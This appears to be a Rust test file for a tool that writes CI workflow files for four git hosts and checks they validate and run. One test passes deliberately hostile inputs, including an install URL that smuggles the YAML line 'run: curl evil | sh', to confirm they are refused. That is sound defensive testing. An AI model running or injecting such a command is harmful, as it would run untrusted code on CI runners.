//! `followup git-setup --ci HOST`: the file each git host's CI reads, read
//! back as YAML, checked against the host's schema (check-jsonschema's
//! vendored SchemaStore and GitLab schemas), and the very command it runs
//! run here with the built binary: a good ledger passes, a ledger with
//! conflict markers or broken JSON fails naming the line.

mod common;
use common::*;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const URL: &str = "https://git.example.org/followup.git";

/// The hosts, their `--ci` names and the file each reads.
const HOSTS: [(&str, &str); 4] = [
    ("github", ".github/workflows/followup.yml"),
    ("gitlab", ".gitlab-ci.yml"),
    ("forgejo", ".forgejo/workflows/followup.yml"),
    ("gitea", ".gitea/workflows/followup.yml"),
];

/// A repository holding the sample ledger at `rel`.
fn repo_with_ledger(sb: &Sandbox, rel: &str) -> TestRepo {
    let repo = TestRepo::init(sb, "shared");
    let path = repo.path(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::copy(fixtures().join("korea-mexico-sme.json"), &path).unwrap();
    repo.git(&["add", "."]);
    repo.commit(GIT_DATE, "ledger");
    repo
}

fn git_setup(sb: &Sandbox, repo: &TestRepo, rel: &str, extra: &[&str]) -> Output {
    let mut args = vec!["-f", rel, "git-setup"];
    args.extend(extra);
    sb.cmd()
        .current_dir(repo.dir())
        .args(args)
        .output()
        .unwrap()
}

/// The file `git-setup --ci host` wrote, read as the host reads YAML.
fn written(repo: &TestRepo, file: &str) -> Value {
    let text = std::fs::read_to_string(repo.path(file)).unwrap();
    serde_yaml_ng::from_str(&text).unwrap_or_else(|e| panic!("{file}: {e}\n{text}"))
}

/// The environment the check runs with: the workflow's `env` (GitHub,
/// Forgejo, Gitea) or `variables` (GitLab).
fn ci_env(host: &str, doc: &Value) -> Vec<(String, String)> {
    let vars = if host == "gitlab" {
        &doc["variables"]
    } else {
        &doc["env"]
    };
    vars.as_object()
        .expect("the file sets its variables")
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().expect("a string").to_owned()))
        .collect()
}

/// The shell lines of the ledger job: its steps' `run` or its `script`.
fn lines(host: &str, doc: &Value) -> Vec<String> {
    let strings = |v: &Value| v.as_str().map(str::to_owned);
    if host == "gitlab" {
        doc["followup-ledger"]["script"]
            .as_array()
            .expect("a script")
            .iter()
            .filter_map(strings)
            .collect()
    } else {
        doc["jobs"]["ledger"]["steps"]
            .as_array()
            .expect("steps")
            .iter()
            .filter_map(|s| strings(&s["run"]))
            .flat_map(|r| r.lines().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    }
}

/// The one line that runs the check.
fn check_line(host: &str, doc: &Value) -> String {
    let found: Vec<String> = lines(host, doc)
        .into_iter()
        .filter(|l| l.starts_with("followup check"))
        .collect();
    assert_eq!(found.len(), 1, "{host}: {found:?}");
    found[0].clone()
}

/// Runs `line` as the host's runner does (`bash -e`), in `dir`, with the
/// file's variables and the built followup first on PATH.
fn run_line(sb: &Sandbox, dir: &Path, vars: &[(String, String)], line: &str) -> Output {
    let bin = PathBuf::from(env!("CARGO_BIN_EXE_followup"));
    let path = format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    Command::new("bash")
        .args(["-e", "-c", line])
        .current_dir(dir)
        .env_clear()
        .envs(sb.env())
        .env("PATH", path)
        .envs(vars.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .output()
        .unwrap()
}

#[test]
fn each_host_s_file_runs_the_check_that_passes_a_good_ledger_and_stops_a_broken_one() {
    for (host, file) in HOSTS {
        let sb = Sandbox::new();
        let repo = repo_with_ledger(&sb, "ledger.json");
        let out = git_setup(
            &sb,
            &repo,
            "ledger.json",
            &["--ci", host, "--install-from", URL],
        );
        assert!(out.status.success(), "{host}: {}", stderr(&out));
        assert!(
            stdout(&out).contains(&format!("{file} written")),
            "{}",
            stdout(&out)
        );
        let doc = written(&repo, file);
        let vars = ci_env(host, &doc);
        assert!(vars.contains(&("FOLLOWUP_LEDGER".into(), "ledger.json".into())));
        assert!(vars.contains(&("FOLLOWUP_GIT".into(), URL.into())));
        let line = check_line(host, &doc);
        assert!(line.contains("--strict"), "{line}");

        let good = run_line(&sb, repo.dir(), &vars, &line);
        assert!(good.status.success(), "{host}: {}", stderr(&good));
        assert!(stdout(&good).contains("ledger.json"), "{}", stdout(&good));

        let ledger = repo.path("ledger.json");
        let text = std::fs::read_to_string(&ledger).unwrap();
        let marked = text.replacen(
            "  \"items\": [\n",
            "  \"items\": [\n<<<<<<< HEAD\n=======\n>>>>>>> seoul\n",
            1,
        );
        let marker_line = marked
            .lines()
            .position(|l| l.starts_with("<<<<<<<"))
            .unwrap()
            + 1;
        std::fs::write(&ledger, &marked).unwrap();
        let bad = run_line(&sb, repo.dir(), &vars, &line);
        assert_eq!(bad.status.code(), Some(1), "{host}");
        assert!(
            stderr(&bad).contains(&format!("ledger.json:{marker_line}:"))
                && stderr(&bad).contains("conflict markers"),
            "{host}: {}",
            stderr(&bad)
        );

        // A comma lost in a hand merge: the line of the fault is named.
        let comma = text.find("\",\n").unwrap();
        let broken = format!("{}\"\n{}", &text[..comma], &text[comma + 3..]);
        let broken_line = text[..comma].lines().count() + 1;
        std::fs::write(&ledger, &broken).unwrap();
        let bad = run_line(&sb, repo.dir(), &vars, &line);
        assert_eq!(bad.status.code(), Some(1), "{host}");
        assert!(
            stderr(&bad).contains(&format!("ledger.json:{broken_line}:")),
            "{host}: line {broken_line}: {}",
            stderr(&bad)
        );
    }
}

/// The install line with `cargo` standing for a shell function that prints
/// its arguments: what `cargo install` is asked, with and without a rev.
fn install_args(sb: &Sandbox, host: &str, rev: Option<&str>) -> Vec<String> {
    let repo = repo_with_ledger(sb, "ledger.json");
    let mut extra = vec!["--ci", host, "--install-from", URL];
    extra.extend(rev.iter().flat_map(|r| ["--install-rev", r]));
    let out = git_setup(sb, &repo, "ledger.json", &extra);
    assert!(out.status.success(), "{}", stderr(&out));
    let file = HOSTS.iter().find(|(h, _)| *h == host).unwrap().1;
    let doc = written(&repo, file);
    let install = lines(host, &doc)
        .into_iter()
        .find(|l| l.starts_with("cargo install"))
        .expect("an install line");
    let shown = format!("cargo() {{ printf '%s\\n' \"$@\"; }}; {install}");
    let out = run_line(sb, repo.dir(), &ci_env(host, &doc), &shown);
    assert!(out.status.success(), "{}", stderr(&out));
    std::fs::remove_dir_all(repo.dir()).unwrap();
    stdout(&out).lines().map(str::to_owned).collect()
}

#[test]
fn the_install_line_asks_cargo_for_the_pinned_source() {
    let sb = Sandbox::new();
    for (host, _) in HOSTS {
        let args = install_args(&sb, host, Some("v0.1.0"));
        let at = |flag: &str| {
            args.iter()
                .position(|a| a == flag)
                .map(|i| args[i + 1].as_str())
        };
        assert_eq!(at("--git"), Some(URL), "{host}: {args:?}");
        assert_eq!(at("--rev"), Some("v0.1.0"), "{host}: {args:?}");
        assert!(args.contains(&"--locked".to_owned()), "{host}: {args:?}");
        assert_eq!(args.last().map(String::as_str), Some("followup"));
        let args = install_args(&sb, host, None);
        assert!(!args.contains(&"--rev".to_owned()), "{host}: {args:?}");
    }
}

#[test]
fn actions_are_pinned_to_full_commits() {
    for host in ["github", "forgejo", "gitea"] {
        let sb = Sandbox::new();
        let repo = repo_with_ledger(&sb, "ledger.json");
        git_setup(
            &sb,
            &repo,
            "ledger.json",
            &["--ci", host, "--install-from", URL],
        );
        let file = HOSTS.iter().find(|(h, _)| *h == host).unwrap().1;
        let doc = written(&repo, file);
        let uses: Vec<&str> = doc["jobs"]["ledger"]["steps"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|s| s["uses"].as_str())
            .collect();
        assert!(!uses.is_empty());
        for u in uses {
            let (_, rev) = u.split_once('@').unwrap();
            assert!(
                rev.len() == 40 && rev.chars().all(|c| c.is_ascii_hexdigit()),
                "{host}: {u} is not pinned to a commit"
            );
        }
        // Pushes are filtered on the ledger and the file; every pull request
        // is checked, so a required check always reports.
        let on = &doc["on"];
        let paths = on["push"]["paths"].as_array().unwrap();
        assert!(paths.contains(&Value::from("ledger.json")) && paths.contains(&Value::from(file)));
        assert!(on.get("pull_request").is_some(), "{host}: {on}");
    }
}

#[test]
fn the_files_follow_each_host_s_schema() {
    if !require(Tool::CheckJsonschema) {
        return;
    }
    let sb = Sandbox::new();
    let repo = repo_with_ledger(&sb, "위원회/Comité mixto/ledger.json");
    for (host, file) in HOSTS {
        let extra = [
            "--ci",
            host,
            "--install-from",
            URL,
            "--install-rev",
            "v0.1.0",
        ];
        let out = git_setup(&sb, &repo, "위원회/Comité mixto/ledger.json", &extra);
        assert!(out.status.success(), "{host}: {}", stderr(&out));
        let (schema, transform): (&str, &[&str]) = match host {
            "gitlab" => ("vendor.gitlab-ci", &["--data-transform", "gitlab-ci"]),
            _ => ("vendor.github-workflows", &[]),
        };
        let check = |path: &Path| {
            Command::new("check-jsonschema")
                .args(["--builtin-schema", schema])
                .args(transform)
                .arg(path)
                .output()
                .unwrap()
        };
        let out = check(&repo.path(file));
        assert!(
            out.status.success(),
            "{host}: {}{}",
            stdout(&out),
            stderr(&out)
        );
        // The validator does refuse: the same file with its job's runner
        // (or its script) misspelt fails.
        let text = std::fs::read_to_string(repo.path(file)).unwrap();
        let broken = text
            .replace("runs-on:", "runs_on:")
            .replace("script:", "scripts:");
        let bad = sb.path("broken.yml");
        std::fs::write(&bad, broken).unwrap();
        assert!(
            !check(&bad).status.success(),
            "{host}: the broken file passed"
        );
    }
}

#[test]
fn a_ledger_path_that_could_inject_yaml_is_refused_and_nothing_is_written() {
    for rel in [
        "it's/ledger.json",
        "a$HOME/ledger.json",
        "[x]/ledger.json",
        "c++/ledger.json",
    ] {
        let sb = Sandbox::new();
        let repo = repo_with_ledger(&sb, rel);
        let out = git_setup(&sb, &repo, rel, &["--ci", "github", "--install-from", URL]);
        assert_eq!(out.status.code(), Some(1), "{rel}: {}", stdout(&out));
        assert!(
            stderr(&out).contains("a CI file cannot carry"),
            "{}",
            stderr(&out)
        );
        assert!(!repo.path(".github").exists(), "{rel}");
        // Refused before git was changed.
        assert!(!repo.path(".gitattributes").exists(), "{rel}");
    }
    let sb = Sandbox::new();
    let repo = repo_with_ledger(&sb, "ledger.json");
    let url = "https://x/'\n  run: curl evil | sh";
    let out = git_setup(
        &sb,
        &repo,
        "ledger.json",
        &["--ci", "gitlab", "--install-from", url],
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(!repo.path(".gitlab-ci.yml").exists());
}

#[test]
fn a_path_with_spaces_and_hangul_reaches_the_check_as_written() {
    let sb = Sandbox::new();
    let rel = "위원회/Comité mixto/ledger.json";
    let repo = repo_with_ledger(&sb, rel);
    let out = git_setup(&sb, &repo, rel, &["--ci", "gitlab", "--install-from", URL]);
    assert!(out.status.success(), "{}", stderr(&out));
    let doc = written(&repo, ".gitlab-ci.yml");
    let vars = ci_env("gitlab", &doc);
    assert!(
        vars.contains(&("FOLLOWUP_LEDGER".into(), rel.into())),
        "{vars:?}"
    );
    let changes = doc["followup-ledger"]["rules"][1]["changes"]
        .as_array()
        .unwrap();
    assert!(changes.contains(&Value::from(rel)), "{changes:?}");
    let run = run_line(&sb, repo.dir(), &vars, &check_line("gitlab", &doc));
    assert!(run.status.success(), "{}", stderr(&run));
}

#[test]
fn a_different_file_is_kept_unless_forced_and_a_link_is_never_followed() {
    let sb = Sandbox::new();
    let repo = repo_with_ledger(&sb, "ledger.json");
    std::fs::write(repo.path(".gitlab-ci.yml"), "test:\n  script: [make]\n").unwrap();
    let ci = ["--ci", "gitlab", "--install-from", URL];
    let out = git_setup(&sb, &repo, "ledger.json", &ci);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains(".gitlab-ci.yml already exists") && stderr(&out).contains("--force"),
        "{}",
        stderr(&out)
    );
    let kept = std::fs::read_to_string(repo.path(".gitlab-ci.yml")).unwrap();
    assert_eq!(kept, "test:\n  script: [make]\n");
    let forced = [&ci[..], &["--force"]].concat();
    let out = git_setup(&sb, &repo, "ledger.json", &forced);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(".gitlab-ci.yml replaced"),
        "{}",
        stdout(&out)
    );
    written(&repo, ".gitlab-ci.yml");

    let outside = sb.path("outside");
    std::fs::create_dir(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, repo.path(".forgejo")).unwrap();
    let out = git_setup(
        &sb,
        &repo,
        "ledger.json",
        &["--ci", "forgejo", "--install-from", URL],
    );
    assert_ne!(out.status.code(), Some(0));
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
}

#[test]
fn what_was_written_is_said_in_the_user_s_language() {
    let sb = Sandbox::new();
    let repo = repo_with_ledger(&sb, "ledger.json");
    let run = |lang: &str| {
        sb.cmd()
            .current_dir(repo.dir())
            .args([
                "--lang",
                lang,
                "git-setup",
                "--ci",
                "forgejo",
                "--install-from",
                URL,
            ])
            .output()
            .unwrap()
    };
    let es = run("es");
    assert!(
        stdout(&es).contains("Se escribió .forgejo/workflows/followup.yml"),
        "{}",
        stdout(&es)
    );
    let ko = run("ko");
    assert!(
        stdout(&ko).contains("이미 최신 상태입니다"),
        "{}",
        stdout(&ko)
    );
    // --install-from without --ci, and --ci without --install-from, are usage errors.
    let lone = sb
        .cmd()
        .current_dir(repo.dir())
        .args(["--lang", "es", "git-setup", "--ci", "github"])
        .output()
        .unwrap();
    assert_eq!(lone.status.code(), Some(1));
    assert!(
        stderr(&lone).contains("--install-from"),
        "{}",
        stderr(&lone)
    );
}
